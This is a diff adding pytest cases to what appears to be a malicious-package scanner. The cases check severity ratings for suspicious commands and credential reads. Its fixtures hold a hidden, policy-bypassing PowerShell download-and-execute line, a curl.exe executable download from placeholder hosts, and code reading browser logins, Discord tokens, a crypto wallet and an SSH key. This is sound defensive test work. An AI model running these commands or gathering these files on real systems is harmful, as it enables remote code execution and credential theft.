@@ -3,7 +3,7 @@
 import pytest
 
 from assay.advisories.severity import Level
-from tests.vetting.package_builder import rules, vet_sdist, vet_wheel
+from tests.vetting.package_builder import first, rules, vet_sdist, vet_wheel
 
 SETUP = "from setuptools import setup\n{body}\nsetup(name='demo')\n"
 
@@ -118,3 +118,36 @@ def test_tests_and_dev_scripts_are_not_import_time():
         finding = _finding(vet_wheel({path: code}), "capability-process")
         assert finding.where == "library", path
     assert _finding(vet_wheel({"demo/core.py": code}), "capability-process").where == "import"
+
+
+def test_hidden_powershell_that_bypasses_the_policy_is_high_even_in_library_code():
+    command = 'powershell -W Hidden -Ep Bypass -C "iwr https://example.invalid/a | iex"'
+    code = f"import subprocess\n\ndef later():\n    subprocess.Popen({command!r})\n"
+    finding = first(vet_wheel({"demo/w.py": code}), "capability-suspicious-command")
+    assert finding.severity == Level.HIGH
+    plain = code.replace("-W Hidden ", "")
+    finding = first(vet_wheel({"demo/w.py": plain}), "capability-suspicious-command")
+    assert finding.severity == Level.MEDIUM  # a setup helper running a script: review it
+
+
+STORES = (
+    "'/Google/Chrome/User Data/Default/Login Data', '/discord/Local Storage/leveldb', "
+    "'/Exodus/exodus.wallet', '.ssh/id_rsa'"
+)
+
+
+def test_credential_stores_gathered_by_a_small_package_are_high():
+    code = f"PATHS = [{STORES}]\n\ndef collect():\n    return [open(p).read() for p in PATHS]\n"
+    finding = first(vet_wheel({"demo/c.py": code}), "capability-sensitive-read")
+    assert finding.severity == Level.HIGH
+    big = {f"demo/m{i}.py": "x = 1\n" for i in range(30)}
+    finding = first(vet_wheel({**big, "demo/c.py": code}), "capability-sensitive-read")
+    assert finding.severity == Level.MEDIUM  # a framework with a credentials helper
+
+
+def test_windows_downloader_binaries_are_suspicious_commands():
+    code = "import os\nos.system('\"curl.exe -OLJ https://files.example.invalid/a.exe\"')\n"
+    finding = first(vet_wheel({"demo/__init__.py": code}), "capability-suspicious-command")
+    assert (finding.where, finding.severity) == ("import", Level.HIGH)
+    version = "import os\nos.system('curlie --version')\n"
+    assert "capability-suspicious-command" not in rules(vet_wheel({"demo/__init__.py": version}))
